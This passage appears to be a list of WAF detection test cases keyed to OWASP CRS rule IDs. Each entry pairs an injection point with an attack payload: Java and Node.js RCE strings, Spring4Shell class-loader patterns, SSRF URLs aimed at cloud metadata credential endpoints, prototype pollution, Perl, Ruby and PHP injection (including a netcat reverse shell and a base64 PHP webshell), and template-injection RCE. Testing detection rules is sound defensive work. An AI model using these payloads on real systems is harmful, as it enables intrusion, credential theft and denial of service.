    ("java", "944210 shifted base64 KztAAU variant", "json", "token", "KztAAUc3IAEWphdmEudXRpbC5IYXNoTWFw"),
    ("java", "944210 shifted base64 Cs7QAF variant in header", "header:X-Auth-Token", "", "Cs7QAFc3IAEWphdmEubGFuZy5JbnRlZ2Vy"),
    # --- 944250 suspicious Java method ---
    ("java", "944250 java reflection forName Runtime", "query", "q", "java.lang.Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)"),
    ("java", "944250 Groovy/Jenkins script java ProcessBuilder", "form", "script", "def p = new java.lang.ProcessBuilder(['id']); p.start().text"),
    ("java", "944250 Nashorn Java.type Runtime", "json", "code", "Java.type('java.lang.Runtime').getRuntime().exec('id')"),
    # --- 944260 malicious class-loading (Spring4Shell) ---
    ("java", "944260 Spring4Shell classLoader pipeline pattern", "form", "class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
    ("java", "944260 Spring4Shell suffix in query name", "path", "", "/app/greeting?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    ("java", "944260 FileSystemXmlApplicationContext (CVE-2023-46604/ActiveMQ)", "json", "config", "org.springframework.context.support.FileSystemXmlApplicationContext"),
    # --- 934100 / 934101 Node.js injection ---
    ("generic", "934100 node-serialize IIFE (CVE-2017-5941)", "cookie", "profile", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){})}()\"}"),
    ("generic", "934100 child_process require via eval", "query", "q", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("generic", "934100 base64-encoded Node payload (base64Decode)", "form", "data", "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk="),
    ("generic", "934100 this.constructor escape", "json", "expr", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("generic", "934100 process.binding spawn_sync", "cookie", "x", "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id']})"),
    ("generic", "934101 fs readFile via require", "query", "tpl", "require('fs').readFileSync('/etc/passwd')"),
    ("generic", "934101 fork of attacker script", "form", "cmd", "require('child_process').fork('/tmp/x.js')"),
    ("generic", "934101 unicode-escaped spawn (jsDecode)", "json", "v", "global.process.mainModule.constructor._load('child_process').\\u0073pawn ('id')"),
    # --- 934110 SSRF cloud metadata ---
    ("ssrf", "934110 AWS IMDS credentials via decimal IP", "query", "url", "http://2852039166/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "934110 GCP metadata service", "form", "webhook", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("ssrf", "934110 AWS IMDS via hex dotted IP", "json", "image_url", "http://0xA9.0xFE.0xA9.0xFE/latest/user-data"),
    ("ssrf", "934110 ECS task metadata endpoint", "cookie", "avatar", "http://169.254.170.2/v2/credentials/"),
    ("ssrf", "934110 IPv6 mapped metadata IP in XML", "body:application/xml", "fetch", "<?xml version=\"1.0\"?><request><url>http://[::ffff:a9fe:a9fe]/latest/meta-data/</url></request>"),
    # --- 934120 SSRF URL with IP address encoding ---
    ("ssrf", "934120 gopher to decimal loopback Redis", "query", "url", "gopher://2130706433:6379/_FLUSHALL"),
    ("ssrf", "934120 dict scheme with octal IP", "form", "callback", "dict://0177.0.0.01:11211/stats"),
    ("ssrf", "934120 http with hex integer IP", "json", "feed", "http://0x7f000001:8080/admin"),
    ("ssrf", "934120 ftp with zero-padded dotted IP", "query", "src", "ftp://010.000.000.001/"),
    # --- 934130 prototype pollution ---
    ("generic", "934130 __proto__ in JSON merge", "json", "", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("generic", "934130 constructor.prototype in query name", "path", "", "/profile?constructor[prototype][polluted]=1"),
    ("generic", "934130 __proto__ bracket notation form", "form", "__proto__[outputFunctionName]", "x;process.mainModule.require('child_process').execSync('id');s"),
    ("generic", "934130 unicode-escaped __proto__ (jsDecode)", "query", "q", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"shell\":\"/proc/self/exe\"}}"),
    # --- 934140 Perl injection ---
    ("generic", "934140 Perl array interpolation exec", "query", "name", "@{[system 'id']}"),
    ("generic", "934140 Perl interpolation with whitespace", "form", "subject", "@{ [ `cat /etc/passwd` ] }"),
    ("generic", "934140 Perl interpolation in cookie", "cookie", "tmpl", "@@{[ qx(uname -a) ]}"),
    # --- 934150 Ruby injection ---
    ("generic", "934150 Ruby Process.spawn", "query", "q", "Process.spawn(\"nc -e /bin/sh 10.0.0.5 4444\")"),
    ("generic", "934150 Ruby Process.spawn with spaces", "form", "cmd", "Process . spawn ('id')"),
    ("generic", "934150 ERB Process.spawn in JSON", "json", "template", "<%= Process.spawn('touch /tmp/pwn') %>"),
    # --- 934160 Node.js DoS ---
    ("generic", "934160 while(true) event-loop block", "query", "q", "while(true){}"),
    ("generic", "934160 while(!0) with comment (replaceComments)", "form", "expr", "while/**/(!0)/**/{}"),
    ("generic", "934160 while(1) base64 encoded", "json", "code", "d2hpbGUoMSl7fQ=="),
    ("generic", "934160 while(new Date) loop", "cookie", "f", "while (new Date){}"),
    # --- 934170 PHP data: scheme ---
    ("php", "934170 data:text/plain base64 PHP include", "query", "page", "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("php", "934170 data:// plaintext code", "form", "file", "data:text/plain,<?php phpinfo();?>"),
    ("php", "934170 data wildcard media type url-encoded", "cookie", "tpl", "data:%2A%2F%2A;base64,PD9waHAgZWNobyAxOyA/Pg=="),
    # --- 934180 SSTI ---
    ("ssti", "934180 Jinja2 statement block RCE", "query", "name", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}"),
    ("ssti", "934180 Twig/Jinja {% import %}", "form", "subject", "{% import os %}{{ os.system('id') }}"),
    ("ssti", "934180 ERB tag command", "json", "bio", "<%= `id` %>"),
    ("ssti", "934180 JSP/ASP scriptlet", "cookie", "tpl", "<% Runtime.getRuntime().exec(\"id\"); %>"),
    ("ssti", "934180 Liquid/Django include tag in XML", "body:application/xml", "tmpl", "<?xml version=\"1.0\"?><email><body>{% include '/etc/passwd' %}</body></email>"),
    # --- 934190 SSRF scheme-less internal hostnames ---
    ("ssrf", "934190 host.docker.internal no scheme", "query", "host", "host.docker.internal/admin"),
    ("ssrf", "934190 kubernetes service host", "form", "endpoint", "kubernetes.default.svc.cluster.local/api/v1/secrets"),
    ("ssrf", "934190 localtest.me rebinding host", "json", "webhook", "localtest.me/internal"),
    ("ssrf", "934190 localhost.localdomain in cookie", "cookie", "server", "localhost.localdomain/server-status"),
]
